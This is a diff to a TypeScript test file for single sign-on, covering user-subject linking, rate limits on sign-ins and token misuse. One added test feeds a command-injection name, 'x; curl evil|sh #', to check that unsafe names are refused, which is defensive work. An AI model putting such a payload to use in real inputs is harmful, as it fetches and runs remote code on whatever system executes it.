@@ -89,8 +89,9 @@ describe('a first sign-in', () => {
     const refused = await logIn(BEN)
     expect(refused.status).toBe(401)
     const subject = `${provider.issuer} u-2`
-    expect(refused.body.detail).toContain(`posthorn user set ben --subject "${subject}"`)
-    await world.askAdmin('PATCH', '/users/ben', { body: { subject } })
+    expect(refused.body.detail).toContain(`posthorn user set --user ben --subject '${subject}'`)
+    const owner = await logIn(ANNA)
+    expect((await ask('PATCH', '/users/ben', { subject }, owner.cookie)).status).toBe(200)
     expect((await logIn(BEN)).status).toBe(200)
     expect(await userOf('ben')).toMatchObject({ role: 'support', subject })
   })
@@ -99,10 +100,18 @@ describe('a first sign-in', () => {
     await logIn(BEN)
     await world.askAdmin('POST', '/users', { body: { user: 'carl', role: 'finance' } })
     await world.askAdmin('POST', '/users', { body: { user: 'dora', role: 'client-admin', account: 1 } })
+    const { cookie } = await logIn(ANNA)
     const link = (user: string, sub: string) =>
-      world.askAdmin('PATCH', `/users/${user}`, { body: { subject: `${provider.issuer} ${sub}` } })
-    expect((await link('carl', 'u-2')).body['detail']).toBe('ben signs in with this account')
-    expect((await link('dora@1', 'u-5')).body['detail']).toContain('users of accounts do not')
+      ask('PATCH', `/users/${user}`, { subject: `${provider.issuer} ${sub}` }, cookie)
+    expect((await link('carl', 'u-2')).body.detail).toBe('ben signs in with this account')
+    expect((await link('dora@1', 'u-5')).body.detail).toContain('users of accounts do not')
+  })
+
+  test('needs a name that is safe in a command', async () => {
+    for (const name of ['x; curl evil|sh #', 'a b', '-rf', "it's"]) {
+      const { status, body } = await logIn({ sub: `n-${name.length}`, name, groups: ['staff'] })
+      expect([status, body.detail]).toEqual([401, expect.stringContaining('your name at the provider')])
+    }
   })
 
   test('of two users with one name admits the first alone', async () => {
@@ -160,6 +169,28 @@ describe('an answer', () => {
     const body = { ...answer, cookie: true }
     expect((await askAsConsole(world, ['POST', '/session/sso/answer'], { body }, foreign)).status).toBe(403)
   })
+})
+
+test('sign-ins that do not end lock no other way in, and are few a second', async () => {
+  const statuses: number[] = []
+  for (let count = 0; count < 40; count += 1) {
+    statuses.push((await ask('POST', '/session/sso', {})).status)
+    world.clock.advance(count < 20 ? 1_000 : 0)
+  }
+  expect(statuses.slice(0, 30)).toEqual(Array(30).fill(200))
+  expect(statuses.slice(30)).toEqual(Array(10).fill(429))
+  const { store } = world.gateway
+  const { path } = await makeSignInLink({ store, clock: world.clock, random: systemRandom }, 'sandbox')
+  expect((await ask('POST', '/session/link', { token: path.replace(/^.*=/, '') })).status).toBe(200)
+})
+
+test('a token connects no user with an account of the firm', async () => {
+  await world.askAdmin('POST', '/users', { body: { user: 'boss', role: 'owner' } })
+  const { body } = await world.askAdmin('POST', '/users/sandbox/tokens', { body: { label: 'script' } })
+  const change = { body: { subject: `${provider.issuer} thief` }, token: String(body['token']) }
+  const refused = await world.askAdmin('PATCH', '/users/boss', change)
+  expect(refused.body['detail']).toContain('a token does not prove who uses it')
+  expect(await userOf('boss')).toMatchObject({ subject: null })
 })
 
 describe('who signs in so', () => {
